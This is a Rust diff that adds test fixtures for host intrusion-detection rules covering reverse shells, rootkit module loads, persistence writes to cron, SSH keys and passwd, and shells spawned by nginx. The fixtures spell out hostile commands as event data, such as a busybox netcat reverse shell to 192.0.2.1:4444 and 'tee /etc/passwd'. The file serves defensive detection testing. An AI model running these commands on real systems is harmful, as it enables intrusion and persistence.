@@ -92,6 +92,59 @@ fn written(by: &str, path: &str) -> Value {
     event(1001, 3, json!({ "actor": { "process": process(by) }, "file": { "path": path, "type_id": 1 } }))
 }
 
+/// As the program that runs a script, and started by this.
+fn as_script(mut event: Value, command: &str, parent: &str) -> Value {
+    let actor = match event["class_uid"].as_u64() {
+        Some(1007) if event["activity_id"] == 1 => &mut event["process"],
+        _ => &mut event["actor"]["process"],
+    };
+    actor["cmd_line"] = json!(command);
+    if !parent.is_empty() {
+        actor["parent_process"]["cmd_line"] = json!(parent);
+    }
+    event
+}
+
+/// What packages, scripts of the system and applets of busybox write, which is no news: by program, command line and the command line
+/// of the parent.
+fn scripted() -> Vec<Value> {
+    let postinst = "/bin/sh /var/lib/dpkg/info/sudo.postinst configure 1.9";
+    [
+        ("/usr/bin/python3.9", "/usr/bin/python3 /usr/bin/dnf install -y cronie", "", "/etc/cron.d/0hourly"),
+        ("/usr/bin/python3.9", "/usr/bin/python3 -s /usr/bin/yum update", "", "/etc/pam.d/sshd"),
+        ("/usr/libexec/platform-python3.6", "/usr/libexec/platform-python /usr/bin/dnf-3 update", "", "/usr/bin/runc"),
+        ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/cloud-init init", "", "/srv/anna/.ssh/authorized_keys"),
+        (
+            "/usr/bin/python3.11",
+            "/usr/bin/python3 /usr/bin/cloud-init modules",
+            "",
+            "/etc/sudoers.d/90-cloud-init-users",
+        ),
+        ("/usr/bin/perl", "/usr/bin/perl -w /usr/sbin/pam-auth-update --package", "", "/etc/pam.d/common-auth"),
+        (
+            "/usr/bin/perl",
+            "/usr/bin/perl /usr/bin/deb-systemd-helper enable ssh.service",
+            "",
+            "/etc/systemd/system/sshd.service",
+        ),
+        ("/usr/bin/dash", postinst, "/usr/bin/dpkg --configure -a", "/etc/sudoers.d/README"),
+        ("/usr/bin/install", "install -m 440 README /etc/sudoers.d/README", postinst, "/etc/sudoers.d/README"),
+        (
+            "/usr/bin/cp",
+            "cp /tmp/aurules /etc/audit/audit.rules",
+            "/bin/bash /sbin/augenrules --load",
+            "/etc/audit/audit.rules",
+        ),
+        ("/bin/busybox", "adduser -D web", "", "/etc/passwd"),
+        ("/bin/busybox", "busybox passwd web", "", "/etc/shadow"),
+        ("/bin/busybox", "/usr/bin/crontab -", "", "/var/spool/cron/root"),
+        ("/usr/bin/dnf5", "dnf5 upgrade", "", "/etc/profile.d/lang.sh"),
+    ]
+    .into_iter()
+    .map(|(by, command, parent, path)| as_script(written(by, path), command, parent))
+    .collect()
+}
+
 fn renamed(by: &str, from: &str, to: &str) -> Value {
     event(
         1001,
@@ -152,6 +205,10 @@ fn called(by: &str, call: &str) -> Value {
 pub(crate) fn cases() -> Vec<Case> {
     let mut socketless = reverse_shell();
     socketless["unmapped"]["dup"] = json!({ "new_fd": 0, "fds": [0] });
+    let mut for_device = module(Some("/usr/bin/kmod"), "virtio_net");
+    for_device["actor"]["process"]["parent_process"] = process("/usr/lib/systemd/systemd-udevd");
+    let mut commandless = duplicated("/bin/busybox", "/x", &[0]);
+    commandless["actor"]["process"].as_object_mut().unwrap().remove("cmd_line");
     let mut higher = reverse_shell();
     higher["unmapped"]["dup"]["new_fd"] = json!(3);
     vec![
@@ -161,14 +218,25 @@ pub(crate) fn cases() -> Vec<Case> {
                 reverse_shell(),
                 duplicated("/bin/dash", "/usr/bin/perl", &[1]),
                 duplicated("/bin/sh", "/x", &[2]),
+                as_script(duplicated("/bin/busybox", "/x", &[0]), "sh -i", ""),
+                as_script(duplicated("/bin/busybox", "/x", &[0]), "/bin/busybox ash", ""),
+                as_script(duplicated("/bin/busybox", "/x", &[0]), "-sh", ""),
+                commandless,
             ],
-            near: vec![socketless, higher, duplicated("/usr/sbin/sshd", "/sbin/init", &[0, 1, 2])],
+            near: vec![
+                socketless,
+                higher,
+                duplicated("/usr/sbin/sshd", "/sbin/init", &[0, 1, 2]),
+                as_script(duplicated("/bin/busybox", "/bin/busybox", &[0, 1]), "httpd -i -h /srv", ""),
+                as_script(duplicated("/bin/busybox", "/bin/busybox", &[0, 1]), "/usr/bin/wget ftp://x.sh", ""),
+            ],
         },
         Case {
             rule: "reverse_shell_interpreter",
             matching: vec![
                 duplicated("/usr/bin/python3.11", "/usr/bin/bash", &[0, 1, 2]),
                 duplicated("/usr/bin/nc.openbsd", "/usr/bin/bash", &[0, 1, 2]),
+                as_script(duplicated("/bin/busybox", "/x", &[0, 1, 2]), "busybox nc 192.0.2.1 4444", ""),
             ],
             near: vec![
                 duplicated("/usr/bin/python3.11", "/usr/lib/systemd/systemd", &[0, 1, 2]),
@@ -222,8 +290,18 @@ pub(crate) fn cases() -> Vec<Case> {
         },
         Case {
             rule: "kernel_module",
-            matching: vec![module(None, "rootkit"), module(Some("/usr/sbin/insmod"), "rootkit")],
-            near: vec![module(Some("/usr/lib/systemd/systemd-udevd"), "virtio_net"), event(1002, 1, json!({}))],
+            matching: vec![module(Some("/usr/sbin/insmod"), "rootkit"), module(Some("/usr/bin/kmod"), "rootkit")],
+            near: vec![
+                module(Some("/usr/lib/systemd/systemd-udevd"), "virtio_net"),
+                module(None, "rootkit"),
+                for_device,
+                event(1002, 1, json!({})),
+            ],
+        },
+        Case {
+            rule: "kernel_module_unattributed",
+            matching: vec![module(None, "nf_tables")],
+            near: vec![module(Some("/usr/sbin/insmod"), "rootkit"), event(1002, 1, json!({}))],
         },
         Case {
             rule: "sensitive_file_persistence",
@@ -231,6 +309,12 @@ pub(crate) fn cases() -> Vec<Case> {
                 written("/usr/bin/tee", "/srv/anna/.ssh/authorized_keys"),
                 opened("/usr/bin/bash", "/etc/cron.d/x", true),
                 renamed("/usr/bin/mv", "/tmp/x", "/etc/systemd/system/x.service"),
+                // A script that only has the name, and an interpreter that is none of the system's.
+                as_script(written("/usr/bin/python3.9", "/etc/cron.d/x"), "python3 /tmp/usr/bin/dnf", ""),
+                as_script(written("/usr/bin/python3.9", "/etc/cron.d/x"), "python3 -c x /usr/bin/dnf", ""),
+                as_script(written("/tmp/python3", "/etc/cron.d/x"), "python3 /usr/bin/dnf", ""),
+                as_script(written("/bin/busybox", "/etc/cron.d/x"), "vi /etc/cron.d/x", ""),
+                as_script(written("/usr/bin/dash", "/etc/cron.d/x"), "sh /tmp/var/lib/dpkg/info/x.postinst", ""),
             ],
             near: vec![
                 opened("/usr/sbin/sshd", "/srv/anna/.ssh/authorized_keys", false),
@@ -244,6 +328,8 @@ pub(crate) fn cases() -> Vec<Case> {
             matching: vec![
                 written("/usr/bin/tee", "/etc/sudoers.d/x"),
                 renamed("/usr/bin/mv", "/tmp/x", "/etc/passwd"),
+                as_script(written("/bin/busybox", "/etc/passwd"), "tee /etc/passwd", ""),
+                as_script(written("/usr/bin/perl", "/etc/pam.d/common-auth"), "perl /tmp/pam-auth-update", ""),
             ],
             near: vec![
                 opened("/usr/bin/tee", "/etc/passwd", false),
@@ -303,6 +389,7 @@ pub(crate) fn cases() -> Vec<Case> {
             matching: vec![user_changed("/tmp/x", 1000, 0)],
             near: vec![
                 user_changed("/usr/bin/sudo", 1000, 0),
+                as_script(user_changed("/bin/busybox", 1000, 0), "su -", ""),
                 user_changed("/usr/sbin/nginx", 0, 33),
                 user_changed("/usr/sbin/x", 0, 0),
                 user_changed("/tmp/x", 1000, 1001),
@@ -335,8 +422,12 @@ pub(crate) fn cases() -> Vec<Case> {
         },
         Case {
             rule: "suspicious_shell",
-            matching: vec![started("/usr/bin/dash", "/usr/sbin/nginx", "sh -c id")],
+            matching: vec![
+                started("/usr/bin/dash", "/usr/sbin/nginx", "sh -c id"),
+                started("/bin/busybox", "/usr/sbin/nginx", "/bin/sh -c id"),
+            ],
             near: vec![
+                started("/bin/busybox", "/usr/sbin/nginx", "gzip -c log"),
                 started("/usr/bin/dash", "/usr/sbin/sshd", "sh"),
                 started("/usr/sbin/nginx", "/usr/bin/dash", "nginx"),
             ],
@@ -378,6 +469,7 @@ pub(crate) fn benign() -> Vec<Value> {
     ] {
         found.push(opened(by, path, write));
     }
+    found.extend(scripted());
     found.push(duplicated("/usr/sbin/in.ftpd", "/usr/sbin/xinetd", &[0, 1, 2]));
     found.push(module(Some("/usr/lib/systemd/systemd-modules-load"), "br_netfilter"));
     found.push(connected_to_socket(process("/usr/bin/docker"), "/var/run/docker.sock"));
